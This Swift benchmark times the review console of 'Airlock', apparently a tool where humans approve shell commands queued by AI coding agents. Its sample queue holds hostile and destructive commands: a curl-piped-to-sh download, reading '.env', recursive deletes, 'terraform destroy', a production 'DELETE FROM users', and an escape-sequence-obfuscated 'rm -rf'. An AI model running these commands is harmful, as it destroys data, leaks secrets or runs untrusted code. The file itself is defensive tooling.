import AirlockConsole
import AirlockCore
import AirlockWire
import FoundationEssentials

#if canImport(Glibc)
    import Glibc
#endif

// The console with 10,000 pending actions: time to render a full 120×40 frame and to apply a
// keystroke, against a baseline of filling a blank 120×40 buffer. Targets: ≤ 1 ms median each, ≤ 30 MB.
// Run: swift run --package-path Benchmarks -c release console-bench

let commands = [
    "rm -rf build/ dist/", "npm test", "npm install left-pad", "git push --force origin main", "git status",
    "kubectl --context prod-eu apply -f deploy.yaml", "terraform destroy -auto-approve",
    "curl https://example.com/x.sh | sh",
    "cat .env", "psql -h db.prod -c 'DELETE FROM users'", "make build", "cargo test", "pip install requests",
    "ssh deploy@10.0.0.5 'sudo systemctl restart api'", "docker system prune -af", "sed -i s/a/b/ src/app.ts",
    "echo ok\u{1B}[2K; rm\u{200B} -rf ~/x", "aws s3 rm s3://bucket --recursive", "go test ./...", "chmod -R 777 /srv",
]
let start = Date(timeIntervalSince1970: 1_780_000_000)

/// The 10,000 actions, as a subscription delivers them. Made in a function so that, as in the
/// console, nothing but the subscription message holds them: the app decodes the broker's
/// reply, hands it to the reducer and keeps no copy of its own.
func pendingActions() -> [QueuedAction] {
    var pending: [QueuedAction] = []
    pending.reserveCapacity(10_000)
    for index in 0..<10_000 {
        let command = commands[index % commands.count] + (index % 3 == 0 ? " # \(index)" : "")
        let action = Action(
            harness: ["claude", "codex", "cursor", "gemini"][index % 4], session: "session-\(index % 37)",
            cwd: "/home/dev/src/repo\(index % 11)", kind: .shell(command: command))
        let assessment = Classifier.assess(action)
        let queuedAt = start.addingTimeInterval(-Double(index % 600))
        pending.append(
            QueuedAction(
                id: "action-\(index)", action: action, assessment: assessment, reason: "asks a human",
                source: assessment.isHardFloor ? .hardFloor : .unmatched, queuedAt: queuedAt,
                deadline: queuedAt.addingTimeInterval(900)))
    }
    return pending
}

let size = ScreenSize(columns: 120, rows: 40)
var state = ConsoleState(configuration: ConsoleConfiguration(reviewer: "bench", size: size, now: start))
_ = Console.update(
    &state,
    .connection(
        .subscribed(
            SubscribeResult(pending: pendingActions(), exceptions: [], mode: .workspaceEdit, reviewWindowSeconds: 900)
        )))
let theme = Theme.fallback(depth: .trueColor)
let clock = ContinuousClock()

/// Runs `body` `count` times; returns the sorted durations in milliseconds.
func measure(_ count: Int, _ body: () -> Void) -> [Double] {
    var samples: [Double] = []
    samples.reserveCapacity(count)
    for _ in 0..<count {
        let elapsed = clock.measure(body)
        samples.append(Double(elapsed.components.attoseconds) / 1e15 + Double(elapsed.components.seconds) * 1e3)
    }
    return samples.sorted()
}

func percentile(_ sorted: [Double], _ p: Double) -> Double {
    sorted[min(sorted.count - 1, Int(Double(sorted.count) * p))]
}

func format(_ value: Double) -> String {
    let scaled = Int((value * 1000).rounded())
    let fraction = scaled % 1000
    return "\(scaled / 1000)." + String(repeating: "0", count: 3 - String(fraction).count) + "\(fraction)"
}

func report(_ name: String, _ samples: [Double], baseline: Double) {
    let median = percentile(samples, 0.5)
    let ratio = baseline > 0 ? median / baseline : 0
    print(
        "\(name.padding(36)) median \(format(median)) ms  p99 \(format(percentile(samples, 0.99))) ms  ×\(format(ratio)) baseline"
    )
}

extension String {
    func padding(_ width: Int) -> String { count >= width ? self : self + String(repeating: " ", count: width - count) }
}

/// The process's RSS high-water mark (VmHWM), as /proc reports it.
func highWater() -> String {
    var value = "unknown"
    if let file = fopen("/proc/self/status", "r") {
        var line = [CChar](repeating: 0, count: 256)
        while fgets(&line, Int32(line.count), file) != nil {
            let text = String(decoding: line.prefix { $0 != 0 }.map { UInt8(bitPattern: $0) }, as: UTF8.self)
            if text.hasPrefix("VmHWM:") {
                value = text.dropFirst(6).trimmingPrefix(while: { $0 == " " || $0 == "\t" }).description
            }
        }
        fclose(file)
    }
    return value.filter { $0 != "\n" }
}

var sink = 0
let baseline = measure(500) {
    var buffer = CellBuffer(size: size)
    for row in 0..<size.rows {
        for column in 0..<size.columns { buffer[column, row] = Cell("x", style: CellStyle(attributes: .bold)) }
    }
    sink &+= buffer.cells.count
}
let baselineMedian = percentile(baseline, 0.5)
print("console-bench: \(state.pendingCount) pending actions, frame \(size.columns)×\(size.rows)")
report("baseline: fill a blank 120×40 buffer", baseline, baseline: baselineMedian)

let frames = measure(500) { sink &+= Console.render(state, theme: theme).cells.count }
report("render full frame", frames, baseline: baselineMedian)

var keySamples: [Double] = []
// j and k in turn: each moves the cursor, so each lays the newly selected action's detail out.
var presses = 0
let moves = measure(1000) {
    presses += 1
    sink &+= Console.update(&state, .key(.character(presses % 2 == 0 ? "k" : "j"))).count
}
report("keystroke j/k", moves, baseline: baselineMedian)
keySamples += moves

// As the console's loop: the key, the frame drawn, then the frame reported shown.
let movesAndFrames = measure(500) {
    sink &+= Console.update(&state, .key(.character("j"))).count
    sink &+= Console.render(state, theme: theme).cells.count
    sink &+= Console.update(&state, .frameShown).count
}
report("keystroke j + render + shown", movesAndFrames, baseline: baselineMedian)

// Approve: `a` sends decide; the reply takes the action off the queue (as the broker's would).
var approveSamples: [Double] = []
for _ in 0..<300 {
    // The bottom of the queue is low risk: `a` approves at once (the hard floor would ask to type).
    _ = Console.update(&state, .key(.escape))
    _ = Console.update(&state, .key(.end))
    // The reviewer looks at the frame first (an approval waits for it).
    _ = Console.update(&state, .frameShown)
    let elapsed = clock.measure {
        let effects = Console.update(&state, .key(.character("a")))
        for case .send(.decide(let params), let tag) in effects {
            sink &+= Console.update(&state, .reply(tag: tag, .decide(DecideResult(resolved: params.ids)))).count
        }
    }
    approveSamples.append(Double(elapsed.components.attoseconds) / 1e15 + Double(elapsed.components.seconds) * 1e3)
}
approveSamples.sort()
report("keystroke a (+ reply resolves it)", approveSamples, baseline: baselineMedian)
_ = Console.update(&state, .key(.escape))

// Filter: `/` then typing, one keystroke at a time, then Esc. The first character scans all
// 10,000 actions; later ones narrow what is shown; Esc brings everything back.
var firstCharacter: [Double] = []
var narrowing: [Double] = []
var clearing: [Double] = []
@MainActor func timed(_ key: Key) -> Double {
    let elapsed = clock.measure { sink &+= Console.update(&state, .key(key)).count }
    return Double(elapsed.components.attoseconds) / 1e15 + Double(elapsed.components.seconds) * 1e3
}
for _ in 0..<100 {
    _ = Console.update(&state, .key(.character("/")))
    firstCharacter.append(timed(.character("g")))
    narrowing.append(timed(.character("i")))
    narrowing.append(timed(.character("t")))
    clearing.append(timed(.escape))
}
report("keystroke / filter, first character", firstCharacter.sorted(), baseline: baselineMedian)
report("keystroke / filter, next characters", narrowing.sorted(), baseline: baselineMedian)
report("keystroke Esc clears the filter", clearing.sorted(), baseline: baselineMedian)

let arrivals = measure(500) {
    sink &+= Console.update(&state, .tick(start.addingTimeInterval(1))).count
}
report("tick", arrivals, baseline: baselineMedian)

// `g` marks every visible action similar to the selected one, then unmarks them again.
let groups = measure(100) { sink &+= Console.update(&state, .key(.character("g"))).count }
report("keystroke g (similar among 10,000)", groups, baseline: baselineMedian)
_ = Console.update(&state, .key(.escape))

// `t` opens the exception panel: its coverage line walks every pending action.
_ = Console.update(&state, .key(.end))
_ = Console.update(&state, .frameShown)
var panelSamples: [Double] = []
var scopeSamples: [Double] = []
for _ in 0..<50 {
    panelSamples.append(timed(.character("t")))
    scopeSamples.append(timed(.tab))
    _ = Console.update(&state, .key(.escape))
}
report("keystroke t (coverage of 10,000)", panelSamples.sorted(), baseline: baselineMedian)
report("keystroke Tab in panel (new scope)", scopeSamples.sorted(), baseline: baselineMedian)

// The 10,000-pending console's memory, before the single-action scenes below add theirs.
print("RSS high-water with 10,000 pending (VmHWM): \(highWater())  [target ≤ 30 MB]")

// An Edit of a 2,000-line file selected: the diff against the file on disk is part of the frame.
let fileLines = (0..<2000).map { "    let value\($0) = compute(\($0)) // line \($0)" }
let fileText = fileLines.joined(separator: "\n") + "\n"
let editAction = Action(
    harness: "claude", session: "session-edit", cwd: "/home/dev/src/repo0",
    kind: .fileEdit(
        path: "Sources/Big.swift",
        edits: [FileEdit(oldText: "let value1000 = compute(1000)", newText: "let value1000 = compute(1000) + 1")]))
let editItem = QueuedAction(
    id: "edit", action: editAction, assessment: Classifier.assess(editAction), reason: "asks a human",
    source: .unmatched, queuedAt: start, deadline: start.addingTimeInterval(900))
var editState = ConsoleState(configuration: ConsoleConfiguration(reviewer: "bench", size: size, now: start))
_ = Console.update(
    &editState,
    .connection(
        .subscribed(
            SubscribeResult(pending: [editItem], exceptions: [], mode: .workspaceEdit, reviewWindowSeconds: 900))))
_ = Console.update(&editState, .fileOnDisk(path: "/home/dev/src/repo0/Sources/Big.swift", .loaded(fileText)))
let editFrames = measure(200) { sink &+= Console.render(editState, theme: theme).cells.count }
report("render frame, Edit of a 2,000-line file", editFrames, baseline: baselineMedian)

print("RSS high-water after the Edit scene (VmHWM): \(highWater())")

// A 100,000-character command of 2,000 lines beside a short one: moving onto it lays its
// detail out (once per selection); scrolling it and drawing it are then as cheap as any frame.
let longCommand = (0..<2000).map { "echo step \($0) \u{200B}of a long generated script" }.joined(separator: "\n")
func shellItem(_ id: String, _ command: String, risk ageSeconds: Double) -> QueuedAction {
    let action = Action(harness: "claude", session: "s", cwd: "/home/dev/src/repo0", kind: .shell(command: command))
    let queuedAt = start.addingTimeInterval(-ageSeconds)
    return QueuedAction(
        id: id, action: action, assessment: Classifier.assess(action), reason: "asks a human", source: .unmatched,
        queuedAt: queuedAt, deadline: queuedAt.addingTimeInterval(900))
}
var longState = ConsoleState(configuration: ConsoleConfiguration(reviewer: "bench", size: size, now: start))
_ = Console.update(
    &longState,
    .connection(
        .subscribed(
            SubscribeResult(
                pending: [shellItem("short", "npm test", risk: 2), shellItem("long", longCommand, risk: 1)],
                exceptions: [], mode: .workspaceEdit, reviewWindowSeconds: 900))))
let onto = measure(100) {
    sink &+= Console.update(&longState, .key(.home)).count
    sink &+= Console.update(&longState, .key(.end)).count
}
report("keys Home, End onto a 100,000-char cmd", onto, baseline: baselineMedian)
let scrolls = measure(500) {
    sink &+= Console.update(&longState, .key(.character("J"))).count
    sink &+= Console.render(longState, theme: theme).cells.count
    sink &+= Console.update(&longState, .frameShown).count
}
report("J + render + shown in that command", scrolls, baseline: baselineMedian)

print("RSS high-water after both scenes (VmHWM): \(highWater())")
print(
    "targets: render ≤ 1 ms, keystroke ≤ 1 ms (medians above)  (\(state.pendingCount) pending at the end; sink \(sink % 10))"
)
